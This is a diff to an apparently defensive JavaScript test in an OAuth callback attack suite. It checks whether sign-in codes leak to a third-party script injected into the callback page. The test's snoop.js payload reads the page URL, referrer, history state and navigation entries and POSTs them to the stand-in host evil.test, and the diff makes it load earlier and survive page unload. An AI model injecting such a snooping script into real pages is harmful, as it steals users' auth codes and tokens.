@@ -143,9 +143,9 @@ attacks("scripts of others", () => {
     const html = await readFile(new URL("../../pkg/callback.html", import.meta.url), "utf8");
     const { files } = lab.handlers[HOSTS.app];
     const name = realmName("h-26");
-    const snoop = `for (const text of [location.href, document.URL, document.referrer, JSON.stringify(history.state), JSON.stringify((window.navigation?.entries() ?? []).map(({ url }) => url))]) fetch("https://evil.test/snooped", { method: "POST", mode: "no-cors", body: text });`;
+    const snoop = `for (const text of [location.href, document.URL, document.referrer, JSON.stringify(history.state), JSON.stringify((window.navigation?.entries() ?? []).map(({ url }) => url))]) fetch("https://evil.test/snooped", { method: "POST", mode: "no-cors", keepalive: true, body: text });`;
     files.set("/valetkey/snoop.js", { body: snoop });
-    files.set(`/valetkey/callback-${name}.html`, { body: html.replace(/<\/body>|<\/html>|$/u, '<script type="module" src="snoop.js"></script>$&') });
+    files.set(`/valetkey/callback-${name}.html`, { body: html.replace(/<\/body>|<\/html>|$/u, '<script type="module" src="snoop.js"></script>$&').replace("<head>", '$&<link rel="modulepreload" href="snoop.js">') });
     const redirectUri = `https://app.test/valetkey/callback-${name}.html`;
     const made = lab.realm(name, { options: { redirectUri }, signIn: { returnTo: `/${name}/` } });
     const page = await lab.page(await lab.context(t));
